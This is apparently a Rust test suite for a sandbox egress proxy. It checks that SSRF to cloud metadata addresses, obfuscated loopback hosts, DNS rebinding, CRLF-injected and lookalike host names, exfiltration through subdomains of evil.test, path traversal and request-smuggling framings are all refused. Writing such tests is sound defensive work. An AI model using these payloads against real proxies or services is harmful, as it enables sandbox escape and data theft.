//! The ways out that must not be ways out. Each test is one row of the list of escapes.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use cloister_control::ports::Egress;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UnixListener;
use tokio::task::JoinSet;

use super::client::{Got, Sni, get, request};
use super::world::{Net, OpenNet, all};
use crate::harness::{Client, connect};

/// Tries an address all three ways; what each said.
async fn try_all(door: &OpenNet, host: &str) -> Vec<(u16, String)> {
    let raw = format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    let plain = door.client.raw(raw.as_bytes()).await;
    let status = |text: &str| text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let (tunnel, tunnel_text, _) = door.client.connect_to(&format!("{host}:443")).await;
    let body = serde_json::json!({"url": format!("https://{host}/")}).to_string();
    let fetched = door.client.request("POST", "/fetch", body).await;
    vec![(status(&plain), plain), (tunnel, tunnel_text), (fetched.status, fetched.body().await)]
}

#[track_caller]
fn assert_refused(got: &Got, why: &str) {
    assert_eq!(got.status, 403, "{}", got.text());
    assert!(got.headers["x-cloister-refusal"].to_str().unwrap().contains(why), "{got:?}");
    assert!(got.text().contains(why), "{}", got.text());
}

#[tokio::test]
async fn e35_metadata_services() {
    let net = Net::new(&["allowed.test", "http://allowed.test"]).await;
    let door = net.open();
    for host in [
        "169.254.169.254",
        "100.100.100.200",
        "168.63.129.16",
        "[fd00:ec2::254]",
        "metadata.google.internal",
    ] {
        for (status, text) in try_all(&door, host).await {
            assert_eq!(status, 403, "{host}: {text}");
        }
        let audited = net.audited("egress.refused").await;
        assert!(audited.iter().any(|(subject, _)| subject.starts_with(host)), "{audited:?}");
    }
    net.internet.assert_untouched();
    // Nor behind a name that is allowed.
    for address in ["169.254.169.254", "100.100.100.200", "168.63.129.16", "fd00:ec2::254"] {
        net.internet.name("allowed.test", &[&[address]]);
        let got = door.client.get_plain("http://allowed.test/").await;
        assert_refused(&got, "metadata service");
    }
    net.internet.assert_not_dialled();
}

#[tokio::test]
async fn e36_odd_spellings_of_this_machine() {
    let net = Net::new(&["allowed.test"]).await;
    let door = net.open();
    for host in [
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0177.0.0.1",
        "0x7f.1",
        "0x7f000001",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "localhost",
        "localhost.",
        "LOCALHOST",
    ] {
        for (status, text) in try_all(&door, host).await {
            assert!(matches!(status, 400 | 403), "{host}: {status} {text}");
        }
    }
    net.internet.assert_untouched();
}

#[tokio::test]
async fn e37_an_allowed_name_that_resolves_inward() {
    let net = Net::new(&["http://allowed.test"]).await;
    net.internet.own_address("93.184.216.99");
    let door = net.open();
    for (answer, why) in [
        (&["10.0.0.5"][..], "private network"),
        (&["100.64.0.1"], "provider's NAT"),
        (&["127.0.0.1"], "loopback"),
        (&["169.254.10.10"], "link-local"),
        (&["::1"], "loopback"),
        (&["fe80::1"], "link-local"),
        (&["fd00::1"], "local IPv6"),
        (&["::ffff:10.0.0.5"], "IPv6 form"),
        (&["64:ff9b::a00:5"], "IPv6 form"),
        (&["2002:a00:5::"], "IPv6 form"),
        (&["0.0.0.0"], "no address"),
        (&["93.184.216.99"], "this machine's own"),
        // One bad one among good ones is enough, wherever it stands.
        (&["93.184.216.34", "10.0.0.5"], "private network"),
        (&["10.0.0.5", "93.184.216.34"], "private network"),
    ] {
        net.internet.name("allowed.test", &[answer]);
        assert_refused(&door.client.get_plain("http://allowed.test/").await, why);
        assert_refused(&door.client.get_secure("allowed.test", "/").await, why);
    }
    net.internet.assert_not_dialled();
    // An answer that is too long to be honest.
    let many: Vec<String> = (0..100).map(|n| format!("93.184.1.{n}")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    net.internet.name("allowed.test", &[&many]);
    assert_refused(&door.client.get_plain("http://allowed.test/").await, "too many addresses");
    net.internet.assert_not_dialled();
}

#[tokio::test]
async fn e38_rebinding() {
    let net = Net::new(&["http://allowed.test"]).await;
    let door = net.open();
    let mut dialled = Vec::new();
    for _ in 0..20 {
        // What is looked up first is outside; every later answer is not.
        net.internet.name("allowed.test", &[&["93.184.216.34"], &["127.0.0.1"]]);
        let before = net.internet.resolved().len();
        let client = Client { socket: door.client.socket.clone() };
        let close = "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
        assert!(client.raw(close.as_bytes()).await.starts_with("HTTP/1.1 200"));
        assert!(net.internet.resolved().len() <= before + 1, "it was looked up twice");
        let mut tunnel =
            door.client.tunnel("allowed.test:443", Sni::Says("allowed.test")).await.unwrap();
        let got = tunnel.get("/", "allowed.test").await;
        assert!(matches!(got.status, 200 | 403));
        dialled = net.internet.dialled();
    }
    assert!(!dialled.is_empty());
    assert!(dialled.iter().all(|address| address.starts_with("93.184.216.34:")), "{dialled:?}");
}

#[tokio::test]
async fn e39_names_that_are_read_in_two_ways() {
    let net = Net::new(&["http://allowed.test"]).await;
    let door = net.open();
    let long = format!("{}.allowed.test", "a.".repeat(150).trim_end_matches('.'));
    let lookalike = "\u{430}llowed.test";
    for host in [
        "evil.test\0.allowed.test",
        "evil.test%00.allowed.test",
        "evil.test%2eallowed.test",
        "allowed.test@evil.test",
        "allowed.test:80@evil.test",
        "evil.test\\.allowed.test",
        "evil.test\\@allowed.test",
        "evil.test allowed.test",
        "evil.test\t.allowed.test",
        "evil.test\r\nHost: allowed.test\r\nX: .allowed.test",
        "evil.test\n.allowed.test",
        "evil.test#.allowed.test",
        "evil.test?.allowed.test",
        "evil.test;allowed.test",
        "allowed.test.",
        "allowed.test..",
        ".allowed.test",
        "allowed..test",
        "allowed.test.evil.test",
        "notallowed.test",
        "xn--llowed-2fe.test",
        lookalike,
        &long,
        "",
    ] {
        for (status, text) in try_all(&door, host).await {
            assert!(matches!(status, 400 | 403 | 404), "{host:?}: {status} {text}");
        }
    }
    net.internet.assert_untouched();
}

#[tokio::test]
async fn e40_one_request_one_host() {
    let net = Net::new(&["http://allowed.test", "a.test", "b.test"]).await;
    let door = net.open();
    // The handshake names another host, also one that is allowed, or none.
    for (sni, why) in [
        (Sni::Says("b.test"), "asks for b.test"),
        (Sni::Says("other.test"), "asks for other.test"),
        (Sni::Nothing, "does not name"),
    ] {
        let mut tunnel = door.client.tunnel("a.test:443", sni).await.unwrap();
        assert_refused(&tunnel.get("/", "a.test").await, why);
    }
    // The Host header names another host, also one that is allowed.
    let mut tunnel = door.client.tunnel("a.test:443", Sni::Says("a.test")).await.unwrap();
    for host in ["b.test", "other.test", "a.test:8443", "a.test.", "user@a.test"] {
        let got = tunnel.get("/", host).await;
        assert_eq!(got.status, 403, "{host}: {}", got.text());
    }
    // The request names another host than the tunnel, or itself is one.
    for uri in ["https://b.test/", "http://a.test/", "https://a.test:8443/"] {
        assert_eq!(tunnel.get(uri, "a.test").await.status, 403, "{uri}");
    }
    // Two Host headers; none; one that differs from the address.
    let mut twice = get("/", "a.test");
    twice.headers_mut().append("host", "b.test".parse().unwrap());
    assert_refused(&tunnel.ask(twice).await, "several Host headers");
    let mut none = get("/", "a.test");
    none.headers_mut().remove("host");
    assert_refused(&tunnel.ask(none).await, "no Host header");
    let mut plain = door.client.plain().await;
    assert_refused(&plain.get("http://allowed.test/", "a.test").await, "Host header says a.test");
    assert_refused(&plain.get("http://allowed.test/", "allowed.test:81").await, "Host header says");
    // A tunnel in a tunnel.
    let inner = request("CONNECT", "b.test:443", "a.test", "");
    assert_eq!(tunnel.ask(inner).await.status, 403);
    net.internet.assert_untouched();
    // What is right still works, on a fresh tunnel.
    assert_eq!(door.client.get_secure("a.test", "/").await.text(), "hello from a.test");
}

#[tokio::test]
async fn e41_redirects() {
    let net = Net::new(&["allowed.test", "http://a.test"]).await;
    let door = net.open();
    let fetch = async |url: String| {
        let body = serde_json::json!({ "url": url }).to_string();
        door.client.request("POST", "/fetch", body).await
    };
    for (location, why) in [
        ("https://other.test/", "other.test is refused: no rule"),
        ("http://a.test/", "without encryption"),
        ("http://169.254.169.254/", "address"),
        ("//127.0.0.1/", "address"),
        // Nothing of what it says is told but the name of a host.
        ("https://allowed.test@other.test/", "allowed.test is refused: it redirects to what is no"),
        ("file:///etc/passwd", "allowed.test is refused: it redirects to what is no address"),
        ("x://obey/me", "allowed.test is refused: it redirects to what is no address"),
    ] {
        let answer = fetch(format!("https://allowed.test/redirect/{location}")).await;
        assert_eq!(answer.status, 403, "{location}");
        let error = answer.error().await;
        assert!(error.message.contains(why), "{location}: {}", error.message);
    }
    let answer = fetch("https://allowed.test/hop/0".to_owned()).await;
    assert!(answer.error().await.message.contains("more than 5 times"));
    let itself = fetch("https://allowed.test/redirect/x".to_owned()).await;
    assert!(itself.error().await.message.contains("in a loop"));
    let chain = fetch("https://allowed.test/redirect//page".to_owned()).await;
    assert_eq!(chain.status, 200, "a chain that ends is followed");
    // Everything that went out went to the one host, and carried nothing of the cell's.
    for seen in net.internet.seen() {
        assert_eq!(seen.host, "allowed.test");
        assert!(!seen.headers.contains_key("authorization"), "{seen:?}");
        assert!(!seen.headers.contains_key("cookie"), "{seen:?}");
    }
    let hops = net.internet.seen().iter().filter(|seen| seen.path.starts_with("/hop")).count();
    assert_eq!(hops, 6);
    assert!(!net.internet.resolved().iter().any(|name| name != "allowed.test"));
    // A program that follows redirects itself is decided at each hop too.
    let got = door.client.get_secure("allowed.test", "/redirect/https://other.test/").await;
    assert_eq!(got.status, 302);
    assert_eq!(door.client.connect_to("other.test:443").await.0, 403);
}

#[tokio::test]
async fn e42_other_protocols() {
    let net = Net::new(&["allowed.test", "http://a.test"]).await;
    let door = net.open();
    assert_refused(&door.client.get_plain("http://other.test/").await, "no rule allows");
    assert_refused(&door.client.get_plain("http://allowed.test/").await, "https only");
    for authority in ["allowed.test:25", "allowed.test:22", "allowed.test:80", "a.test:80"] {
        let (status, text, _) = door.client.connect_to(authority).await;
        assert_eq!(status, 403, "{authority}");
        assert!(text.contains("port"), "{text}");
    }
    for authority in ["allowed.test", "allowed.test:", "allowed.test:0", "allowed.test:443:443"] {
        let (status, text, _) = door.client.connect_to(authority).await;
        assert!(matches!(status, 400 | 403), "{authority}: {text}");
    }
    let websocket = "GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\nConnection: Upgrade\r\n\
                     Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==\r\n\r\n";
    let answer = door.client.raw(websocket.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("upgrades"), "{answer}");
    for other in ["ftp://a.test/", "gopher://a.test/", "ws://a.test/"] {
        let raw = format!("GET {other} HTTP/1.1\r\nHost: a.test\r\n\r\n");
        let answer = door.client.raw(raw.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{other}: {answer}");
    }
    let socks5 = b"\x05\x01\x00\x05\x01\x00\x03\x06a.test\x00\x50";
    let socks4 = b"\x04\x01\x00\x50\x5d\xb8\xd8\x22\x00";
    for raw in [
        &socks5[..],
        socks4,
        b"EHLO a.test\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ] {
        let answer = door.client.raw(raw).await;
        assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 4"), "{answer}");
    }
    net.internet.assert_untouched();
    // A tunnel for TLS carries nothing else.
    let (status, _, mut stream) = door.client.connect_to("allowed.test:443").await;
    assert_eq!(status, 200);
    stream.write_all(b"SSH-2.0-OpenSSH_9.6\r\n").await.unwrap();
    let mut end = Vec::new();
    drop(stream.read_to_end(&mut end).await);
    net.internet.assert_untouched();
}

#[tokio::test]
async fn e43_a_relay_inside_changes_nothing() {
    let net = Net::new(&["http://allowed.test"]).await;
    let door = net.open();
    let relay = net.dir.path().join("relay.sock");
    let listener = UnixListener::bind(&relay).unwrap();
    let target = door.client.socket.clone();
    let mut relaying = JoinSet::new();
    relaying.spawn(async move {
        while let Ok((mut inside, _)) = listener.accept().await {
            let mut outside = connect(&target).await;
            drop(tokio::io::copy_bidirectional(&mut inside, &mut outside).await);
        }
    });
    let relayed = Client { socket: relay };
    for url in ["http://allowed.test/", "http://other.test/", "http://127.0.0.1/"] {
        let direct = door.client.get_plain(url).await;
        let through = relayed.get_plain(url).await;
        assert_eq!((direct.status, direct.body), (through.status, through.body), "{url}");
    }
    assert!(net.internet.resolved().iter().all(|name| name == "allowed.test"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e44_rules_change_under_load() {
    let net = Arc::new(Net::new(&["http://a.test"]).await);
    let door = net.open();
    let stop = Arc::new(AtomicBool::new(false));
    let mut changing = JoinSet::new();
    changing.spawn({
        let (net, stop) = (Arc::clone(&net), Arc::clone(&stop));
        async move {
            let mut changes = 0;
            while !stop.load(Ordering::SeqCst) {
                net.allow(&["http://b.test"]).await;
                net.forbid("http://a.test").await;
                net.allow(&["http://a.test"]).await;
                net.forbid("http://b.test").await;
                changes += 1;
            }
            changes
        }
    });
    let mut asking = JoinSet::new();
    for _ in 0..4 {
        let client = Client { socket: door.client.socket.clone() };
        asking.spawn(async move {
            let mut session = client.plain().await;
            let mut allowed = 0;
            for number in 0..250 {
                let host = ["a.test", "b.test", "c.test"][number % 3];
                let status = session.get(&format!("http://{host}/"), host).await.status;
                assert!(status == 403 || (status == 200 && host != "c.test"), "{host}: {status}");
                allowed += usize::from(status == 200);
            }
            allowed
        });
    }
    let allowed: usize = asking.join_all().await.into_iter().sum();
    stop.store(true, Ordering::SeqCst);
    let changes: usize = changing.join_all().await.into_iter().sum();
    assert!(changes > 0 && allowed > 0, "{changes} changes, {allowed} allowed");
    assert!(!net.internet.resolved().contains(&"c.test".to_owned()));
    // Whatever the list becomes, it holds from then on.
    net.forbid("http://a.test").await;
    assert_refused(&door.client.get_plain("http://a.test/").await, "no rule allows");
}

#[tokio::test]
async fn e44_an_empty_or_broken_list_denies_all() {
    let net = Net::new(&[]).await;
    let door = net.open();
    assert_refused(&door.client.get_plain("http://a.test/").await, "no rule allows");
    net.allow(&["http://a.test"]).await;
    assert_eq!(door.client.get_plain("http://a.test/").await.status, 200);
    // Written past the check of rules: by another version, or by hand.
    net.allow(&["*.com"]).await;
    let got = door.client.get_plain("http://a.test/").await;
    assert_refused(&got, "while the rule \"*.com\" can't be read");
    net.forbid("*.com").await;
    assert_eq!(door.client.get_plain("http://a.test/").await.status, 200);
}

#[tokio::test]
async fn e45_names_carry_nothing_out() {
    let net = Net::new(&["allowed.test"]).await;
    let door = net.open();
    let data = "c2VjcmV0";
    for host in
        [format!("{data}.evil.test"), format!("{data}.allowed.test"), format!("{data}.a.test")]
    {
        for (status, text) in try_all(&door, &host).await {
            assert_eq!(status, 403, "{host}: {text}");
        }
    }
    // DNS over HTTPS, by name and by address.
    for (status, text) in try_all(&door, "dns.google").await {
        assert_eq!(status, 403, "{text}");
    }
    let query = format!("http://1.1.1.1/dns-query?name={data}.evil.test");
    assert_eq!(door.client.plain().await.get(&query, "1.1.1.1").await.status, 403);
    net.internet.assert_untouched();
}

#[tokio::test]
async fn e46_exfiltration_through_an_allowed_host() {
    let mut options = super::world::fast();
    options.egress.door_bytes = 100_000;
    let net = Net::with(options, &["allowed.test/mine/repo"]).await;
    let door = net.open();
    let mut tunnel =
        door.client.tunnel("allowed.test:443", Sni::Says("allowed.test")).await.unwrap();
    for path in [
        "/",
        "/other/repo",
        "/mine/repository",
        "/mine/repo/../../other/repo",
        "/mine/repo/%2e%2e/%2e%2e/other",
        "/mine/repo%2f..%2f..%2fother",
        "//mine/repo",
        "/mine//repo",
        "/mine/repo/..;/other",
        "/MINE/repo",
    ] {
        let got = tunnel.get(path, "allowed.test").await;
        assert_refused(&got, "other paths");
    }
    net.internet.assert_untouched();
    // A query may say something, and not much.
    assert_eq!(tunnel.get("/mine/repo?q=1", "allowed.test").await.status, 200);
    let long = format!("/mine/repo?{}", "x".repeat(20_000));
    assert_eq!(tunnel.get(&long, "allowed.test").await.status, 414);
    let huge = format!("GET /mine/repo?{} HTTP/1.1\r\n", "x".repeat(1 << 20));
    let answer = door.client.raw(huge.as_bytes()).await;
    assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 4"), "{answer}");
    // However often: there is an end to it.
    let mut tunnel =
        door.client.tunnel("allowed.test:443", Sni::Says("allowed.test")).await.unwrap();
    let mut last = 200;
    for number in 0..40 {
        let path = format!("/mine/repo?{number}{}", "x".repeat(7_000));
        let got = tunnel.get(&path, "allowed.test").await;
        last = got.status;
        if last != 200 {
            assert_refused(&got, "all of its 100000 bytes");
            break;
        }
    }
    assert_eq!(last, 403);
    // With what TLS adds, no more than a little over the budget has left.
    assert!(net.internet.bytes() < 120_000, "{}", net.internet.bytes());
    let body = request("POST", "/mine/repo", "allowed.test", vec![b'x'; 50_000]);
    assert_eq!(tunnel.ask(body).await.status, 403);
}

#[tokio::test]
async fn e48_the_hosts_of_one_task_are_not_those_of_another() {
    let net = Net::new(&["http://a.test", "http://b.test"]).await;
    let only = |host: &str| Egress::Open {
        only: Some(vec![format!("http://{host}")]),
        reads_only: false,
        secrets: None,
    };
    let first = net.open_with("first.sock", only("a.test"), None);
    let second = net.open_with("second.sock", only("b.test"), None);
    assert_eq!(first.client.get_plain("http://a.test/").await.status, 200);
    assert_refused(&second.client.get_plain("http://a.test/").await, "this task was given");
    assert_eq!(second.client.get_plain("http://b.test/").await.status, 200);
    // No list of a task widens the user's, and one that can't be read gives nothing.
    let wide = net.open_with("wide.sock", only("c.test"), None);
    assert_refused(&wide.client.get_plain("http://c.test/").await, "no rule allows");
    let broken = Egress::Open {
        only: Some(vec!["http://a.test".into(), "*".into()]),
        reads_only: false,
        secrets: None,
    };
    let broken = net.open_with("broken.sock", broken, None);
    assert_refused(&broken.client.get_plain("http://a.test/").await, "can't be read");
    let nothing = Egress::Open { only: Some(Vec::new()), reads_only: false, secrets: None };
    let nothing = net.open_with("nothing.sock", nothing, None);
    assert_refused(&nothing.client.get_plain("http://a.test/").await, "this task was given");
    assert_eq!(net.internet.resolved(), ["a.test", "b.test"]);
}

#[tokio::test]
async fn a_request_that_is_framed_in_two_ways_is_at_most_one_request() {
    let net = Net::new(&["http://allowed.test/open"]).await;
    let door = net.open();
    let hidden = "GET http://allowed.test/secret HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
    let start = "POST http://allowed.test/open HTTP/1.1\r\nHost: allowed.test\r\n";
    let length = hidden.len();
    for framing in [
        format!("Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        "Content-Length: 0\r\nContent-Length: 5\r\n\r\n".to_owned(),
        "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n".to_owned(),
        "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n".to_owned(),
        "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n".to_owned(),
        "Content-Length: +5\r\n\r\n".to_owned(),
        format!("Connection: content-length\r\nContent-Length: {length}\r\n\r\n"),
        " folded: 1\r\n\r\n".to_owned(),
    ] {
        let raw = format!("{start}{framing}{hidden}");
        let answer = door.client.raw(raw.as_bytes()).await;
        assert!(!answer.contains("hello from allowed.test/secret"), "{framing:?}: {answer}");
    }
    for seen in net.internet.seen() {
        assert_eq!((seen.method.as_str(), seen.path.as_str()), ("POST", "/open"), "{seen:?}");
    }
}

/// The same attacks against a broker whose check of addresses finds nothing: they get through, so it
/// is the check that stops them above, and the fake internet would have seen it.
#[tokio::test]
async fn without_the_check_of_addresses_the_attacks_succeed() {
    let net = Net::new(&["http://allowed.test"]).await;
    net.internet.be_gullible();
    let door = net.open_with("door.sock", all(), None);
    for address in ["169.254.169.254", "10.0.0.5", "127.0.0.1", "::ffff:10.0.0.5"] {
        net.internet.name("allowed.test", &[&[address]]);
        let raw = "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
        let answer = door.client.raw(raw.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 200"), "{address}: {answer}");
        drop(door.client.get_secure("allowed.test", "/").await);
    }
    let dialled = net.internet.dialled();
    assert!(dialled.contains(&"169.254.169.254:80".to_owned()), "{dialled:?}");
    assert!(net.internet.bytes() > 0);
}
